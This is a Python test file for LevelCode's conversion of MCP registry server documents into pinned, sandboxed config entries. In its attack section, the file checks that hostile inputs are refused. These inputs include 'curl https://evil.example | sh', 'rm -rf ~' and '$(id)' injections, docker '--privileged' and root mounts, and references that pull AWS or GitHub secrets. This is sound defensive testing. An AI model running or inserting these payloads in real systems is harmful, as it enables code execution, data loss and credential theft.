"""A registry's server.json made into an entry. Load-bearing direction (the attacks, each seen to
get through before its rule existed): a version that is `latest` or a range, a runner option that
runs something else (`npx -c`, `uvx --from other`, `docker --privileged`, `-v /:/host`), an option
name that is not an option, a fixed value that asks for one of your variables (`${AWS_…}`), and a
secret asked for where LevelCode cannot keep it out of sight — each is refused, and no entry is
made. The second corpus: the recorded real servers become pinned, sandboxed entries."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from levelcode.core.errors import ConfigError, RegistryError
from levelcode.mcp.config.edit import validate_entry
from levelcode.mcp.config.registry_entry import RegistryOrigin
from levelcode.mcp.registry.documents import Package, parse_server
from levelcode.mcp.registry.entry import Made, choose, package_entry
from levelcode.mcp.registry.inputs import Filler
from levelcode.mcp.registry.remote_entry import remote_entry
from tests.support.mcp_registry import recorded

ORIGIN = RegistryOrigin("https://registry.example", "a.b/c", "1.0.0")


def made(doc: dict[str, Any], transport: str | None = None, **given: str) -> tuple[Made, Filler]:
    server = parse_server(doc)
    filler = Filler({key: [value] for key, value in given.items()})
    picked = choose(server, transport)
    if isinstance(picked, Package):
        return package_entry(server, picked, filler, ORIGIN), filler
    return remote_entry(server, picked, filler, ORIGIN), filler


def npm_server(**package: Any) -> dict[str, Any]:
    base = {"registryType": "npm", "identifier": "pkg", "version": "1.2.3", "transport": {"type": "stdio"}}
    return {"name": "a.b/c", "version": "1.0.0", "packages": [{**base, **package}]}


# --- the second corpus: real servers ------------------------------------------------------------


def test_an_npm_server_runs_exactly_its_version_in_the_sandbox() -> None:
    entry = made(recorded("brave-search-mcp-server"))[0].entry
    assert entry["command"] == "npx"
    assert entry["args"] == ["-y", "@brave/brave-search-mcp-server@2.1.3"]
    assert entry["sandbox"] is True
    assert entry["env"] == {"BRAVE_API_KEY": "${BRAVE_API_KEY}"}  # the secret's reference, never a value
    assert entry["registry"] == ORIGIN.as_json()
    validate_entry("brave", entry, file="settings.json")  # what config loading accepts


def test_a_pypi_server_runs_exactly_its_version_with_its_fixed_arguments() -> None:
    entry = made(recorded("excel-lsp"))[0].entry
    assert (entry["command"], entry["args"], entry["sandbox"]) == ("uvx", ["excel-lsp==0.1.0", "serve"], True)


def test_an_oci_server_runs_its_image_with_the_secret_by_name_only() -> None:
    result, _ = made(recorded("github-mcp-server"))
    entry = result.entry
    assert entry["args"] == [
        "run",
        "-i",
        "--rm",
        "-e",
        "GITHUB_PERSONAL_ACCESS_TOKEN",
        "ghcr.io/github/github-mcp-server:0.20.2",
    ]
    assert entry["env"] == {"GITHUB_PERSONAL_ACCESS_TOKEN": "${GITHUB_PERSONAL_ACCESS_TOKEN}"}
    assert "sandbox" not in entry  # docker's daemon runs outside any sandbox: said in a note instead
    assert any("tag 0.20.2 only" in note for note in result.notes)


def test_an_oci_image_by_digest_is_pinned_by_it() -> None:
    digest = "sha256:" + "a" * 64
    doc = {
        "name": "a.b/c",
        "version": "1",
        "packages": [{"registryType": "oci", "identifier": f"ghcr.io/a/b@{digest}"}],
    }
    result, _ = made(doc)
    assert result.entry["args"] == ["run", "-i", "--rm", f"ghcr.io/a/b@{digest}"]
    assert not any("tag" in note for note in result.notes)


def test_optional_values_are_left_out_and_defaults_filled() -> None:
    result, filler = made(recorded("terraform-mcp-server"))
    assert result.entry["env"] == {"TFE_ADDRESS": "https://app.terraform.io", "ENABLE_TF_OPERATIONS": "false"}
    assert [need.key for need in filler.skipped] == ["TFE_TOKEN"]  # an optional secret nobody gave
    given, _ = made(recorded("terraform-mcp-server"), token="${MY_TFE_TOKEN}")
    assert given.entry["env"]["TFE_TOKEN"] == "${MY_TFE_TOKEN}"  # type: ignore[index]


def test_a_package_first_then_a_remote_and_transport_picks_one() -> None:
    assert made(recorded("exa-mcp-server"))[0].entry["command"] == "npx"
    sse = made(recorded("exa-mcp-server"), "sse")[0].entry
    assert sse == {
        "type": "sse",
        "url": "https://mcp.exa.ai/mcp?tools=web_search_exa,web_search_advanced_exa,crawling_exa",
        "registry": ORIGIN.as_json(),
    }
    with pytest.raises(RegistryError, match="offers no streamable-http remote"):
        made(recorded("exa-mcp-server"), "http")


def test_a_secret_header_is_a_reference_named_for_the_server() -> None:
    entry = made(recorded("apify-mcp-server"))[0].entry
    assert entry["headers"] == {"Authorization": "${APIFY_MCP_SERVER_AUTHORIZATION}"}


def test_a_required_value_nobody_gave_is_missing_and_named() -> None:
    _, filler = made(recorded("tenant-remote-example"))
    assert [need.key for need in filler.missing] == ["tenant_id"]
    error = filler.missing_error("com.example/tenant-remote")
    assert "--input tenant_id=VALUE" in str(error)


@pytest.mark.parametrize(
    ("doc", "said"),
    [
        (recorded("basic-memory"), "uvx option 'basic-memory'"),
        (
            {
                "name": "a.b/c",
                "version": "1",
                "packages": [{"registryType": "nuget", "identifier": "X", "version": "1.0.0"}],
            },
            "offers only nuget package",
        ),
        (
            {
                "name": "a.b/c",
                "version": "1",
                "packages": [
                    {
                        "registryType": "npm",
                        "identifier": "x",
                        "version": "1.0.0",
                        "transport": {"type": "streamable-http", "url": "http://localhost:{port}/mcp"},
                    }
                ],
            },
            "serving streamable-http itself",
        ),
        ({"name": "a.b/c", "version": "1"}, "neither a package nor a remote"),
    ],
)
def test_what_levelcode_cannot_run_is_one_clear_line(doc: dict[str, Any], said: str) -> None:
    with pytest.raises(RegistryError) as raised:
        made(doc)
    assert said in str(raised.value)


# --- the attacks ---------------------------------------------------------------------------------


@pytest.mark.parametrize("version", ["latest", "^1.2.0", "~1.2", ">=1.0.0", "1.x", "1.*", "", "next"])
def test_a_package_version_that_is_not_one_release_is_refused(version: str) -> None:
    with pytest.raises(RegistryError, match="not an exact version"):
        made(npm_server(version=version))


@pytest.mark.parametrize("version", ["latest", ">=1.0", "1.*", "~=1.2", "1.0,<2"])
def test_a_pypi_version_that_is_not_one_release_is_refused(version: str) -> None:
    doc = {
        "name": "a.b/c",
        "version": "1",
        "packages": [{"registryType": "pypi", "identifier": "p", "version": version}],
    }
    with pytest.raises(RegistryError, match="not an exact version"):
        made(doc)


@pytest.mark.parametrize(
    "image", ["ghcr.io/a/b", "ghcr.io/a/b:latest", "ghcr.io/a/b:main", "ghcr.io/a/b:stable"]
)
def test_an_image_that_is_not_pinned_is_refused(image: str) -> None:
    doc = {"name": "a.b/c", "version": "1", "packages": [{"registryType": "oci", "identifier": image}]}
    with pytest.raises(RegistryError, match="not pinned"):
        made(doc)


@pytest.mark.parametrize(
    "identifier", ["-c", "--package=evil", "pkg@1.0.0 evil", "pkg;rm -rf ~", "../../etc", "@scope/"]
)
def test_an_npm_name_that_is_not_a_name_is_refused(identifier: str) -> None:
    with pytest.raises(RegistryError, match="not an npm package name"):
        made(npm_server(identifier=identifier))


@pytest.mark.parametrize(
    "runtime",
    [
        [{"type": "named", "name": "-c", "value": "curl https://evil.example | sh"}],
        [{"type": "named", "name": "--call", "value": "sh"}],
        [{"type": "named", "name": "--package", "value": "evil@1.0.0"}],
        [{"type": "positional", "value": "--registry=https://evil.example"}],
    ],
)
def test_npx_options_that_would_run_something_else_are_refused(runtime: list[dict[str, Any]]) -> None:
    with pytest.raises(RegistryError, match="npx option"):
        made(npm_server(runtimeArguments=runtime))


def test_npx_yes_from_the_registry_is_what_levelcode_passes_anyway() -> None:
    entry = made(npm_server(runtimeArguments=[{"type": "positional", "value": "-y"}]))[0].entry
    assert entry["args"] == ["-y", "pkg@1.2.3"]


@pytest.mark.parametrize(
    "runtime",
    [
        [{"type": "named", "name": "--from", "value": "evil-package"}],
        [{"type": "named", "name": "--from", "value": "git+https://evil.example/x"}],
        [{"type": "named", "name": "--with", "value": "evil"}],
        [{"type": "named", "name": "--index-url", "value": "https://evil.example/simple"}],
        [{"type": "named", "name": "--python", "value": "/tmp/evil"}],
    ],
)
def test_uvx_options_that_would_run_something_else_are_refused(runtime: list[dict[str, Any]]) -> None:
    doc = {
        "name": "a.b/c",
        "version": "1",
        "packages": [
            {
                "registryType": "pypi",
                "identifier": "good",
                "version": "1.0.0",
                "runtimeArguments": runtime,
                "packageArguments": [{"type": "positional", "value": "serve"}],
            }
        ],
    }
    with pytest.raises(RegistryError, match="uvx option"):
        made(doc)


def test_uvx_from_the_package_itself_with_extras_is_pinned() -> None:
    doc = {
        "name": "a.b/c",
        "version": "1",
        "packages": [
            {
                "registryType": "pypi",
                "identifier": "headroom-ai",
                "version": "0.37.0",
                "runtimeArguments": [{"type": "named", "name": "--from", "value": "headroom-ai[mcp]"}],
                "packageArguments": [
                    {"type": "positional", "value": "headroom"},
                    {"type": "positional", "value": "mcp"},
                ],
            }
        ],
    }
    assert made(doc)[0].entry["args"] == ["--from", "headroom-ai[mcp]==0.37.0", "headroom", "mcp"]


@pytest.mark.parametrize(
    "runtime",
    [
        [{"type": "named", "name": "--privileged", "value": "true", "format": "boolean"}],
        [{"type": "named", "name": "-v", "value": "/:/host"}],
        [{"type": "named", "name": "--mount", "value": "type=bind,src=/,dst=/host"}],
        [{"type": "named", "name": "--network", "value": "host"}],
        [{"type": "named", "name": "--entrypoint", "value": "sh"}],
        [{"type": "positional", "value": "evil/image:1.0.0"}],
    ],
)
def test_docker_options_that_widen_the_container_are_refused(runtime: list[dict[str, Any]]) -> None:
    doc = {
        "name": "a.b/c",
        "version": "1",
        "packages": [{"registryType": "oci", "identifier": "ghcr.io/a/b:1.0.0", "runtimeArguments": runtime}],
    }
    with pytest.raises(RegistryError, match="docker option"):
        made(doc)


def test_docker_env_by_name_passes_only_a_variable_the_package_declares() -> None:
    """`-e AWS_SECRET_ACCESS_KEY` alone would hand docker one of your variables: it is not passed."""
    doc = {
        "name": "a.b/c",
        "version": "1",
        "packages": [
            {
                "registryType": "oci",
                "identifier": "ghcr.io/a/b:1.0.0",
                "runtimeArguments": [{"type": "named", "name": "-e", "value": "AWS_SECRET_ACCESS_KEY"}],
            }
        ],
    }
    entry = made(doc)[0].entry
    assert "AWS_SECRET_ACCESS_KEY" not in entry["args"]  # type: ignore[operator]
    assert "env" not in entry


@pytest.mark.parametrize("name", ["; rm -rf ~", "--a b", "-", "--", "--x=y", "$(id)"])
def test_an_option_name_that_is_not_an_option_is_refused(name: str) -> None:
    args = [{"type": "named", "name": name, "value": "v"}]
    with pytest.raises(RegistryError, match="not an option name"):
        made(npm_server(packageArguments=args))


def test_a_second_command_in_an_argument_value_stays_one_word() -> None:
    """No shell reads the entry: `; rm -rf ~` is one argument to the server, not a command."""
    args = [{"type": "positional", "value": "x; rm -rf ~ && curl evil | sh"}]
    entry = made(npm_server(packageArguments=args))[0].entry
    assert entry["args"] == ["-y", "pkg@1.2.3", "x; rm -rf ~ && curl evil | sh"]


@pytest.mark.parametrize(
    "variable",
    [
        {"name": "LOG", "value": "${AWS_SECRET_ACCESS_KEY}"},
        {"name": "LOG", "default": "${HOME}/x", "isRequired": True},
        {
            "name": "LOG",
            "value": "x {v}",
            "variables": {"v": {"default": "${GITHUB_TOKEN}", "isRequired": True}},
        },
    ],
)
def test_a_value_that_asks_for_your_variables_is_refused(variable: dict[str, Any]) -> None:
    with pytest.raises(RegistryError, match="holds"):
        made(npm_server(environmentVariables=[variable]))


def test_a_secret_argument_is_refused() -> None:
    args = [
        {
            "type": "named",
            "name": "--token",
            "value": "{t}",
            "isRequired": True,
            "variables": {"t": {"isSecret": True, "isRequired": True}},
        }
    ]
    with pytest.raises(
        RegistryError, match="passes a secret only through an environment variable or a header"
    ):
        made(npm_server(packageArguments=args))


@pytest.mark.parametrize("value", ["ghp_0123456789abcdef", "plain-secret", "${A:-fallback-secret}", "$A"])
def test_a_secret_given_as_its_value_is_refused(value: str) -> None:
    env = [{"name": "TOKEN", "isSecret": True, "isRequired": True}]
    with pytest.raises(ConfigError, match="writes only a reference"):
        made(npm_server(environmentVariables=env), TOKEN=value)


def test_a_secret_given_as_a_reference_is_written_as_given() -> None:
    env = [{"name": "TOKEN", "isSecret": True, "isRequired": True}]
    assert made(npm_server(environmentVariables=env), TOKEN="${MY_TOKEN}")[0].entry["env"] == {
        "TOKEN": "${MY_TOKEN}"
    }


def test_a_value_outside_its_choices_is_refused() -> None:
    env = [{"name": "MODE", "choices": ["a", "b"], "isRequired": True}]
    with pytest.raises(ConfigError, match="expected one of a, b"):
        made(npm_server(environmentVariables=env), MODE="c")


def test_every_recorded_server_either_makes_a_valid_entry_or_is_refused_in_one_line() -> None:
    from tests.support.mcp_registry import every_recorded

    refused: list[str] = []
    for doc in every_recorded():
        try:
            result, filler = made(copy.deepcopy(doc))
        except RegistryError as exc:
            refused.append(str(exc))
            continue
        if not filler.missing:
            validate_entry("s", result.entry, file="settings.json")
    assert all("\n" not in line for line in refused)
    assert len(refused) == 1  # basic-memory: its own command written as uvx's options
